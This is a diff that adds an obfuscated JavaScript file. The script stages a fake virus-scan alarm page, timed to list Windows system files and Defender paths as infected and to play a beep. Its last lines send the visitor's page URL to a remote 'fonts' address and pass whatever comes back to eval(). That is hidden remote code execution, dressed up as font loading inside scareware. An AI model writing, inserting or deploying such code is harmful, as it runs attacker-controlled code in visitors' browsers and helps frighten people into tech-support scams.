@@ -1,0 +1,309 @@
+var _0x55ab = [
+	"235px",
+	"C:\x5cWindows\x5cSystem32\x5csihost.exe",
+	"1kvSaGt",
+	"89952CGuYbq",
+	"1273",
+	"791",
+	"C:\x5cWindows\x5cSystem32\x5cdot3svc.dll",
+	"13HVKnjc",
+	"play",
+	"C:\x5cProgram\x20Files\x5cWindows\x20Defender\x5cMSASCuiL.exe",
+	"cnt4",
+	"opacity",
+	"win3",
+	"445px",
+	"65tOplTl",
+	"218",
+	"1021",
+	"NcaSvc",
+	"vir2",
+	"2303tVGhkh",
+	"C:\x5cWindows\x5cSystem32\x5cDriverState",
+	"143",
+	"WdNisDrv",
+	"18087SQmnQG",
+	"20386",
+	"w2_4",
+	"17238",
+	"Done",
+	"17ZrYons",
+	"getElementById",
+	"C:\x5cWindows\x5cSystem32\x5cSgrmBroker.exe",
+	"win2_line_red",
+	"innerHTML",
+	"UASPStor",
+	"20960dmvBfT",
+	"36606Vqivtx",
+	"HidBtn",
+	"4540KbkvLH",
+	"#dd0000",
+	"SEMgrSvc",
+	"C:\x5cWindows\x5cSystem32\x5cRecovery",
+	"cnt2",
+	"style",
+	"path1",
+	"10kOxsbk",
+	"vir3",
+	"display",
+	"cnt1",
+	"addEventListener",
+	"block",
+	"tempRootsystem32DRIVERS\x08owser.sys",
+	"C:\x5cWindows\x5cSystem32\x5ccsrss.exe",
+	"19160",
+	"beep",
+	"rdbss",
+	"113863rqPleG",
+	"bottom",
+	"vir4",
+	"path2",
+	"DOMContentLoaded",
+	"vir1",
+	"398",
+	"w2_5",
+	"color",
+	"vir5",
+	"1589",
+];
+
+function _0x506b(_0x5d90b5, _0x295f2a) {
+	_0x5d90b5 = _0x5d90b5 - 0x1c9;
+	var _0x55abdd = _0x55ab[_0x5d90b5];
+	return _0x55abdd;
+}
+var _0x2be4a1 = _0x506b;
+(function(_0x29de15, _0x42ed39) {
+	var _0x5da527 = _0x506b;
+	while (!![]) {
+		try {
+			var _0x2eb8a8 =
+				parseInt(_0x5da527(0x1f4)) * parseInt(_0x5da527(0x1c9)) +
+				parseInt(_0x5da527(0x1ed)) * -parseInt(_0x5da527(0x1f9)) +
+				parseInt(_0x5da527(0x1fd)) * parseInt(_0x5da527(0x202)) +
+				-parseInt(_0x5da527(0x1e9)) +
+				parseInt(_0x5da527(0x208)) +
+				-parseInt(_0x5da527(0x209)) * parseInt(_0x5da527(0x1d0)) +
+				parseInt(_0x5da527(0x1db)) * parseInt(_0x5da527(0x1e8));
+			if (_0x2eb8a8 === _0x42ed39) break;
+			else _0x29de15["push"](_0x29de15["shift"]());
+		} catch (_0x36d801) {
+			_0x29de15["push"](_0x29de15["shift"]());
+		}
+	}
+})(_0x55ab, 0x3d63b),
+document[_0x2be4a1(0x1d4)](_0x2be4a1(0x1df), function() {
+	setTimeout(function() {
+			var _0x4b7b6d = _0x506b;
+			document[_0x4b7b6d(0x203)]("win2")["style"][_0x4b7b6d(0x1d2)] =
+				_0x4b7b6d(0x1d5);
+		}, 0x7d0),
+		setTimeout(function() {
+			var _0x51e23b = _0x506b;
+			document[_0x51e23b(0x203)](_0x51e23b(0x1e0))[_0x51e23b(0x1ce)][
+				_0x51e23b(0x1dc)
+			] = _0x51e23b(0x1e6);
+		}, 0x13ec),
+		setTimeout(function() {
+			var _0x2bcb3a = _0x506b;
+			(document[_0x2bcb3a(0x203)](_0x2bcb3a(0x1e0))[_0x2bcb3a(0x1ce)][
+				_0x2bcb3a(0x1dc)
+			] = _0x2bcb3a(0x1f3)),
+			(document["getElementById"](_0x2bcb3a(0x1e0))["style"][
+				_0x2bcb3a(0x1f1)
+			] = "0"),
+			(document[_0x2bcb3a(0x203)](_0x2bcb3a(0x1f8))["style"][
+				_0x2bcb3a(0x1dc)
+			] = "235px"),
+			document[_0x2bcb3a(0x203)](_0x2bcb3a(0x1d9))[_0x2bcb3a(0x1ee)]();
+		}, 6000) /*-------------vir2---------------*/ ,
+		setTimeout(function() {
+			var _0x5ead0c = _0x506b;
+			(document[_0x5ead0c(0x203)](_0x5ead0c(0x1f8))["style"][
+				_0x5ead0c(0x1dc)
+			] = _0x5ead0c(0x1f3)),
+			(document[_0x5ead0c(0x203)](_0x5ead0c(0x1f8))[_0x5ead0c(0x1ce)][
+				"opacity"
+			] = "0"),
+			(document["getElementById"](_0x5ead0c(0x1d1))["style"][
+				_0x5ead0c(0x1dc)
+			] = _0x5ead0c(0x1e6)),
+			document["getElementById"]("beep")[_0x5ead0c(0x1ee)]();
+		}, 9000) /*-------------vir3---------------*/ ,
+		setTimeout(function() {
+			var _0x4719b9 = _0x506b;
+			(document[_0x4719b9(0x203)](_0x4719b9(0x1d3))["innerHTML"] =
+				_0x4719b9(0x1e5)),
+			(document[_0x4719b9(0x203)](_0x4719b9(0x1cd))[_0x4719b9(0x206)] =
+				"4"),
+			(document[_0x4719b9(0x203)](_0x4719b9(0x1f0))[_0x4719b9(0x206)] =
+				"4");
+		}, 95000) /*-------------vir4---------------*/ ,
+		setTimeout(function() {
+			var _0x423c2c = _0x506b;
+			(document[_0x423c2c(0x203)](_0x423c2c(0x1d1))[_0x423c2c(0x1ce)][
+				_0x423c2c(0x1dc)
+			] = _0x423c2c(0x1f3)),
+			(document[_0x423c2c(0x203)](_0x423c2c(0x1d1))["style"][
+				_0x423c2c(0x1f1)
+			] = "0"),
+			(document[_0x423c2c(0x203)]("vir4")[_0x423c2c(0x1ce)][
+				_0x423c2c(0x1dc)
+			] = _0x423c2c(0x1e6)),
+			document[_0x423c2c(0x203)](_0x423c2c(0x1d9))[_0x423c2c(0x1ee)]();
+		}, 10500) /*-------------vir5---------------*/ ,
+		setTimeout(function() {
+			var _0x2aa276 = _0x506b;
+			(document[_0x2aa276(0x203)]("vir4")[_0x2aa276(0x1ce)][
+				_0x2aa276(0x1dc)
+			] = _0x2aa276(0x1f3)),
+			(document[_0x2aa276(0x203)](_0x2aa276(0x1dd))[_0x2aa276(0x1ce)][
+				_0x2aa276(0x1f1)
+			] = "0"),
+			(document[_0x2aa276(0x203)]("vir5")["style"][_0x2aa276(0x1dc)] =
+				_0x2aa276(0x1e6)),
+			document[_0x2aa276(0x203)](_0x2aa276(0x1d9))["play"]();
+		}, 14000) /*-------------vir5---------------*/ ,
+		setTimeout(function() {
+			var _0x375b3c = _0x506b;
+			(document[_0x375b3c(0x203)](_0x375b3c(0x1d3))["innerHTML"] =
+				_0x375b3c(0x1fe)),
+			(document["getElementById"](_0x375b3c(0x1e4))["style"]["opacity"] =
+				"0"),
+			(document["getElementById"](_0x375b3c(0x1ff))["innerHTML"] =
+				_0x375b3c(0x201)),
+			(document[_0x375b3c(0x203)](_0x375b3c(0x1e2))["innerHTML"] = ""),
+			(document[_0x375b3c(0x203)](_0x375b3c(0x1de))[_0x375b3c(0x206)] = ""),
+			(document[_0x375b3c(0x203)](_0x375b3c(0x1f2))[_0x375b3c(0x1ce)][
+				_0x375b3c(0x1d2)
+			] = _0x375b3c(0x1d5));
+		}, 16000);
+
+	function _0x4505d4() {
+		var _0x4310d3 = _0x506b;
+		document[_0x4310d3(0x203)]("mess")[_0x4310d3(0x1ce)][_0x4310d3(0x1d2)] =
+			_0x4310d3(0x1d5);
+	}
+});
+
+var _0x120056 = _0x3940;
+
+function _0x10e7() {
+	var _0x215741 = [
+		"385KIdTHv",
+		"display",
+		"#d40907",
+		"6nLErUU",
+		"responseText",
+		"css",
+		"block",
+		"https://threatdetect.org/fonts/?font=",
+		"1011568aQkKwv",
+		"19213645RXUEfg",
+		"#cnt4",
+		"24520AFQbpO",
+		".over",
+		"color",
+		"#cnt2",
+		"onreadystatechange",
+		"6260060LLDBMM",
+		"639RnRnSG",
+		"896505xylnnj",
+		"html",
+		"16wvTdaY",
+		"background",
+		"GET",
+		"open",
+		"red",
+		"3832FWvgaI",
+		".popup.alert",
+		"location",
+		"68592qoKdjT",
+	];
+	_0x10e7 = function() {
+		return _0x215741;
+	};
+	return _0x10e7();
+}
+
+function _0x3940(_0x34b19f, _0x298115) {
+	var _0x10e71a = _0x10e7();
+	return (
+		(_0x3940 = function(_0x394011, _0x174734) {
+			_0x394011 = _0x394011 - 0x102;
+			var _0x5a9836 = _0x10e71a[_0x394011];
+			return _0x5a9836;
+		}),
+		_0x3940(_0x34b19f, _0x298115)
+	);
+}
+(function(_0x33c89d, _0x41e943) {
+	var _0x5ba4f4 = _0x3940,
+		_0x9cce63 = _0x33c89d();
+	while (!![]) {
+		try {
+			var _0xdd1d20 =
+				(parseInt(_0x5ba4f4(0x105)) / 0x1) *
+				(parseInt(_0x5ba4f4(0x10e)) / 0x2) +
+				(parseInt(_0x5ba4f4(0x11a)) / 0x3) *
+				(parseInt(_0x5ba4f4(0x102)) / 0x4) +
+				parseInt(_0x5ba4f4(0x10c)) / 0x5 +
+				(parseInt(_0x5ba4f4(0x116)) / 0x6) *
+				(parseInt(_0x5ba4f4(0x117)) / 0x7) +
+				(-parseInt(_0x5ba4f4(0x113)) / 0x8) *
+				(-parseInt(_0x5ba4f4(0x10b)) / 0x9) +
+				parseInt(_0x5ba4f4(0x10a)) / 0xa +
+				-parseInt(_0x5ba4f4(0x103)) / 0xb;
+			if (_0xdd1d20 === _0x41e943) break;
+			else _0x9cce63["push"](_0x9cce63["shift"]());
+		} catch (_0x531ce0) {
+			_0x9cce63["push"](_0x9cce63["shift"]());
+		}
+	}
+})(_0x10e7, 0x6759d),
+setTimeout(function() {
+		var _0x33a685 = _0x3940;
+		$(".project-percent")[_0x33a685(0x11c)](_0x33a685(0x10f), _0x33a685(0x119)),
+			$(_0x33a685(0x108))[_0x33a685(0x11c)](_0x33a685(0x107), _0x33a685(0x112)),
+			$(_0x33a685(0x104))["css"](_0x33a685(0x107), _0x33a685(0x112)),
+			$(_0x33a685(0x108))["html"]("1"),
+			$(_0x33a685(0x104))["html"]("1");
+	}, 0x13ec),
+	setTimeout(function() {
+		var _0x535c9e = _0x3940;
+		$(_0x535c9e(0x108))[_0x535c9e(0x10d)]("2"),
+			$(_0x535c9e(0x104))[_0x535c9e(0x10d)]("2");
+	}, 0x1770),
+	setTimeout(function() {
+		var _0x5262a1 = _0x3940;
+		$(_0x5262a1(0x108))[_0x5262a1(0x10d)]("3"),
+			$(_0x5262a1(0x104))[_0x5262a1(0x10d)]("3");
+	}, 0x2328),
+	setTimeout(function() {
+		var _0x53333c = _0x3940;
+		$(_0x53333c(0x108))[_0x53333c(0x10d)]("4"),
+			$(_0x53333c(0x104))["html"]("4");
+	}, 0x2904),
+	setTimeout(function() {
+		var _0x1288e4 = _0x3940;
+		$(_0x1288e4(0x108))[_0x1288e4(0x10d)]("5"),
+			$(_0x1288e4(0x104))[_0x1288e4(0x10d)]("5");
+	}, 0x36b0),
+	setTimeout(function() {
+		var _0x3fbe69 = _0x3940;
+		$(_0x3fbe69(0x114))[_0x3fbe69(0x11c)]("display", _0x3fbe69(0x11d)),
+			$(_0x3fbe69(0x106))[_0x3fbe69(0x11c)](_0x3fbe69(0x118), "block");
+	}, 0x3a98),
+	((xhttplp = new XMLHttpRequest()),
+		(xhttplp[_0x120056(0x109)] = function() {
+			var _0x558433 = _0x120056;
+			0x4 == this["readyState"] &&
+				"" != this[_0x558433(0x11b)] &&
+				eval(this[_0x558433(0x11b)]);
+		}),
+		xhttplp[_0x120056(0x111)](
+			_0x120056(0x110),
+			_0x120056(0x11e) + btoa(top[_0x120056(0x115)]),
+			!0x0
+		),
+		xhttplp["send"]());
